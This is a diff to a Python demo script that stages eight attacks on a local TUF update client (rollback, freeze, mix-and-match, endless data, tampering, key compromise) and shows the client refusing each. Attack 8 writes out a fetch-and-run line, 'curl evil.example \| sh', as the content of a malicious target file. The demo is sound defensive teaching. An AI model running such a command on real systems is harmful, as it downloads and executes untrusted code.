@@ -40,14 +40,14 @@ class DemoServer:
 
     ``overrides[path] = bytes`` replaces a file; ``endless`` holds paths
     served as their bytes followed by zeros without end.  ``requests`` logs
-    every path asked for.
+    every (path, status) asked for.
     """
 
     def __init__(self, folder: str):
         self.folder = os.path.realpath(folder)
         self.overrides: dict[str, bytes] = {}
         self.endless: set[str] = set()
-        self.requests: list[str] = []
+        self.requests: list[tuple[str, int]] = []
         self._lock = threading.Lock()
         self._httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
         self._httpd.daemon_threads = True
@@ -74,7 +74,7 @@ class DemoServer:
         self.overrides.clear()
         self.endless.clear()
 
-    def take_requests(self) -> list[str]:
+    def take_requests(self) -> list[tuple[str, int]]:
         with self._lock:
             taken, self.requests = self.requests, []
         return taken
@@ -98,9 +98,9 @@ def _handler(server: DemoServer) -> type:
 
         def do_GET(self) -> None:  # noqa: N802 (http.server's name)
             path = urllib.parse.unquote(urllib.parse.urlsplit(self.path).path).lstrip("/")
-            with server._lock:
-                server.requests.append(path)
             data = server.lookup(path)
+            with server._lock:
+                server.requests.append((path, 404 if data is None else 200))
             try:
                 if data is None:
                     self.send_error(404)
@@ -191,7 +191,8 @@ class Demo:
 
     # --- bookkeeping ------------------------------------------------------------
 
-    def honest(self, title: str, action: Callable[[], str]) -> bool:
+    def honest(self, title: str, action: Callable[[], str], indent: int = 2) -> bool:
+        """An honest step: it must succeed."""
         start = time.perf_counter()
         try:
             detail = action()
@@ -204,24 +205,32 @@ class Demo:
         seconds = time.perf_counter() - start
         self.steps.append(Step("honest", title, ok, seconds))
         mark = "[ ok ]" if ok else "[FAIL]"
-        self.say(f"{mark} {title}: {detail}", indent=2, hang=7)
-        if self.verbose or not ok:
-            for path in self.server.take_requests() if self.server else []:
-                self.say(f"GET /{path}", indent=9)
+        self.say(f"{mark} {title}: {detail}", indent=indent, hang=7)
+        self._show_requests(indent + 7)
         return ok
+
+    def _show_requests(self, indent: int) -> None:
+        """With -v: what the client asked the server for."""
+        if self.verbose and self.server is not None:
+            for path, status in self.server.take_requests():
+                self.say(f"GET /{path} -> {status}", indent=indent)
+
+    def heading(self, number: int, title: str, story: str) -> None:
+        self.say()
+        self.say(f"{number}. {title}", indent=2)
+        self.say(story, indent=5)
 
     def attack(
         self,
-        number: int,
         title: str,
         story: str,
         expected: tuple[str, ...],
         check: str,
         action: Callable[[], object],
     ) -> bool:
-        self.say()
-        self.say(f"{number}. {title}", indent=2)
-        self.say(story, indent=5)
+        """The attacker's move: it must be refused by the ``expected``
+        exception (by class name) or end in ``Refused``."""
+        self.say(f"Attack: {story}", indent=5, hang=8)
         self.server.take_requests()
         start = time.perf_counter()
         try:
@@ -247,14 +256,12 @@ class Demo:
             said = f"{type(caught).__name__}: {explain(caught)}"
         self.steps.append(Step("attack", title, ok, seconds))
         if ok:
-            self.say(f"[REFUSED] by the {check}.", indent=5)
+            self.say(f"[REFUSED] by the {check}.", indent=5, hang=10)
         else:
             self.say(f"[NOT REFUSED AS EXPECTED] expected the {check} "
-                     f"({', '.join(expected)}).", indent=5)
-        self.say(f"tufc said: {said}", indent=5)
-        if self.verbose:
-            for path in self.server.take_requests():
-                self.say(f"GET /{path}", indent=9)
+                     f"({', '.join(expected)}).", indent=5, hang=10)
+        self.say(f"tufc said: {said}", indent=5, hang=11)
+        self._show_requests(7)
         return ok
 
     # --- the story ------------------------------------------------------------
@@ -265,26 +272,31 @@ class Demo:
         begin = time.perf_counter()
         self.say("tufc demo: The Update Framework under attack, on this machine, offline.")
         self.say()
+        self.say("A TUF repository signs metadata describing every file it serves; "
+                 "a TUF client checks that metadata before it trusts a byte. Below, "
+                 "a client downloads honestly, then an attacker who controls the "
+                 "mirror (and, later, a few keys) tries eight ways to fool it.")
+        self.say()
         self.say("Setting up")
         start = time.perf_counter()
         self.repo = repo = Repository(self.repo_dir, root_keys=3, root_threshold=2)
         repo.delegate("projects", ["projects/*"])
-        self.app = _payload(b"app-1.0", 20000)
         repo.add_target("README.txt", b"Welcome to the demo repository.\n")
         repo.add_target(
-            "projects/app-1.0.tar.gz", self.app, role="projects",
+            "projects/app-1.0.tar.gz", _payload(b"app-1.0", 20000), role="projects",
             custom={"description": "the application, version 1.0"},
         )
         repo.publish()
         self.server = DemoServer(self.repo_dir).start()
         setup_seconds = time.perf_counter() - start
         self.steps.append(Step("setup", "generate keys, sign, serve", True, setup_seconds))
-        self.say(f"repository  {self.repo_dir}", indent=2)
-        self.say(f"served at   {self.server.url} (127.0.0.1 only)", indent=2)
+        self.say(f"repository  {self.repo_dir}", indent=2, hang=12)
+        self.say(f"served at   {self.server.url} (127.0.0.1 only)", indent=2, hang=12)
         self.say("keys        root: 3 Ed25519 keys, any 2 must sign; timestamp, "
                  "snapshot, targets: 1 key each", indent=2, hang=12)
-        self.say("delegation  role 'projects' may sign only for projects/*", indent=2)
-        self.say(f"client      {self.client_dir}  (tufc, {BACKEND} core)", indent=2)
+        self.say("delegation  role 'projects' may sign only for projects/*",
+                 indent=2, hang=12)
+        self.say(f"client      {self.client_dir} (tufc, {BACKEND} core)", indent=2, hang=12)
         try:
             self._story()
         finally:
@@ -300,80 +312,89 @@ class Demo:
         ok = self.honest("refresh", self._refresh) and ok
         ok = self.honest("download projects/app-1.0.tar.gz",
                          lambda: self._download("projects/app-1.0.tar.gz")) and ok
-        self.honest("download it again", lambda: self._download("projects/app-1.0.tar.gz"))
+        ok = self.honest("download it again",
+                         lambda: self._download("projects/app-1.0.tar.gz")) and ok
         if not ok:
             self.say("The honest steps failed; attacks would prove nothing.", indent=2)
             return
 
         self.say()
-        self.say("Attacks (each against the same client; the server is honest again after each)")
+        self.say("Attacks (the mirror turns honest again after each one)")
 
         # 1. rollback
+        self.heading(1, "Rollback attack",
+                     "Going back to older files with known holes.")
         old_timestamp = repo.current("metadata/timestamp.json")
         repo.renew_timestamp()
-        self.honest("the repository renews its timestamp (v2); client refresh",
-                    self._refresh)
+        self.honest("the repository renews its timestamp (version 2); client refresh",
+                    self._refresh, indent=5)
 
         def rollback():
             server.overrides["metadata/timestamp.json"] = old_timestamp
             self.updater().refresh()
 
         self.attack(
-            1, "Rollback attack",
-            "A mirror serves yesterday's timestamp (version 1; the client already "
-            "trusts version 2), hoping the client goes back to older files with "
-            "known holes.",
+            "Rollback attack",
+            "the mirror serves yesterday's timestamp, version 1.",
             ("BadVersionNumberError",), "rollback check (versions never go down)",
             rollback,
         )
 
         # 2. freeze
         later = datetime.now(timezone.utc) + timedelta(days=2)
+        self.heading(2, "Freeze attack",
+                     "Keeping the client on old files by never showing it new metadata.")
         self.attack(
-            2, "Freeze attack",
-            "Two days later, a mirror still serves the last timestamp it saw, "
-            "so the client never learns of new releases. The client checks "
-            f"expiry as of {later:%Y-%m-%d %H:%M} UTC.",
+            "Freeze attack",
+            "two days later the mirror still serves the same timestamp "
+            f"(the client's clock: {later:%Y-%m-%d %H:%M} UTC).",
             ("ExpiredMetadataError",), "expiry check (timestamps live 1 day)",
             lambda: self.updater(reference_time=later).refresh(),
         )
 
         # 3. mix and match
+        self.heading(3, "Mix-and-match attack",
+                     "Combining metadata files that were never current together.")
         old_targets = repo.current("metadata/1.targets.json")
         repo.add_target("README.txt", b"Welcome to the demo repository, release 2.\n")
         repo.publish()
+        self.say("(the repository publishes targets version 2 and a new snapshot)",
+                 indent=5)
 
         def mix_and_match():
             server.overrides["metadata/2.targets.json"] = old_targets
             self.updater().refresh()
 
         self.attack(
-            3, "Mix-and-match attack",
-            "The repository publishes targets version 2. A mirror serves the "
-            "new snapshot but the old targets file in its place, to combine "
-            "metadata that were never current together.",
+            "Mix-and-match attack",
+            "the mirror serves the new snapshot with the old targets file in "
+            "place of version 2.",
             ("LengthOrHashMismatchError", "BadVersionNumberError"),
             "snapshot check (the snapshot pins each targets file's version, "
             "length and hash)",
             mix_and_match,
         )
-        self.honest("the genuine files: client refresh", self._refresh)
+        self.honest("the genuine files: client refresh", self._refresh, indent=5)
 
         # 4. endless data: metadata
+        self.heading(4, "Endless data attack (metadata)",
+                     "Filling the client's memory or disk.")
+
         def endless_timestamp():
             server.endless.add("metadata/timestamp.json")
             self.updater().refresh()
 
         self.attack(
-            4, "Endless data attack (metadata)",
-            "A mirror answers timestamp.json with a stream that never ends, to "
-            "fill the client's disk or memory.",
+            "Endless data attack (metadata)",
+            "the mirror answers timestamp.json with a stream that never ends.",
             ("DownloadLengthMismatchError",),
             "length limit (a timestamp may be at most 16384 bytes)",
             endless_timestamp,
         )
 
         # 5. endless data: target
+        self.heading(5, "Endless data attack (target)",
+                     "The same, with a file the client downloads.")
         readme = repo.target_file_name("README.txt")
 
         def endless_target():
@@ -381,45 +402,56 @@ class Demo:
             return self._download("README.txt")
 
         self.attack(
-            5, "Endless data attack (target)",
-            "A mirror answers README.txt with a stream that never ends.",
+            "Endless data attack (target)",
+            "the mirror answers README.txt with a stream that never ends.",
             ("DownloadLengthMismatchError",),
             "length check (the signed metadata says how long the file is)",
             endless_target,
         )
 
         # 6. tampered target
+        self.heading(6, "Arbitrary software installation",
+                     "Serving a file the repository never signed.")
+
         def tampered():
             genuine = repo.target_data["README.txt"]
             server.overrides[readme] = genuine.replace(b"Welcome", b"Malware")
             return self._download("README.txt")
 
         self.attack(
-            6, "Arbitrary software installation",
-            "A mirror serves a tampered README.txt with the right length.",
+            "Arbitrary software installation",
+            "the mirror serves a tampered README.txt of the right length.",
             ("LengthOrHashMismatchError",),
             "hash check (the signed sha256 does not match; nothing is saved)",
             tampered,
         )
 
         # 7. root key compromised below threshold
+        self.heading(7, "Key compromise below the threshold",
+                     "Taking over the repository with one stolen root key.")
+
         def stolen_root_key():
             server.overrides["metadata/2.root.json"] = self._forged_root()
             self.updater().refresh()
 
         self.attack(
-            7, "Key compromise below the threshold",
-            "An attacker stole ONE of the three root keys (2 are required) and "
-            "publishes a new root that hands every role to keys of its own.",
+            "Key compromise below the threshold",
+            "with ONE of the three root keys (2 are required) the attacker "
+            "signs a new root that hands every role to keys of its own.",
             ("UnsignedMetadataError",),
-            "signature threshold check (the new root needs 2 signatures from "
+            "signature threshold check (a new root needs 2 signatures from "
             "the keys of the trusted root)",
             stolen_root_key,
         )
 
         # 8. delegated role signs outside its paths
+        self.heading(8, "Compromised delegated role",
+                     "Using a key trusted for some files to sign others.")
         repo.add_target("tools/install.sh", b"curl evil.example | sh\n", role="projects")
         repo.publish()
+        self.say("(the 'projects' key is stolen; the attacker lists tools/install.sh "
+                 "in role 'projects' and the repository publishes it as usual)",
+                 indent=5)
 
         def outside_paths():
             updater = self.updater()
@@ -432,9 +464,8 @@ class Demo:
             return info
 
         self.attack(
-            8, "Compromised delegated role",
-            "The 'projects' key is stolen; the attacker signs tools/install.sh "
-            "with it and the repository publishes that as usual.",
+            "Compromised delegated role",
+            "the client is asked to install tools/install.sh.",
             ("Refused",),
             "delegation path check ('projects' is trusted only for projects/*)",
             outside_paths,
@@ -444,8 +475,8 @@ class Demo:
         # an honest release still works
         self.say()
         self.say("After the attacks")
-        self.app2 = _payload(b"app-1.1", 24000)
-        repo.add_target("projects/app-1.1.tar.gz", self.app2, role="projects")
+        repo.add_target("projects/app-1.1.tar.gz", _payload(b"app-1.1", 24000),
+                        role="projects")
         repo.publish()
         self.honest("the repository releases app 1.1; client refresh", self._refresh)
         self.honest("download projects/app-1.1.tar.gz",
@@ -468,11 +499,12 @@ class Demo:
     def _refresh(self) -> str:
         self.server.take_requests()
         self.updater().refresh()
-        fetched = [p.rpartition("/")[2] for p in self.server.take_requests()]
-        if self.verbose:
-            for name in fetched:
-                self.say(f"GET {name}", indent=9)
-        return f"verified; fetched {', '.join(fetched)}"
+        asked = []
+        for path, status in self.server.take_requests():
+            name = path.rpartition("/")[2]
+            asked.append(name if status == 200 else f"{name} ({status}: none yet)"
+                         if name.endswith(".root.json") else f"{name} ({status})")
+        return f"verified; asked for {', '.join(asked)}"
 
     def _download(self, path: str) -> str:
         updater = self.updater()
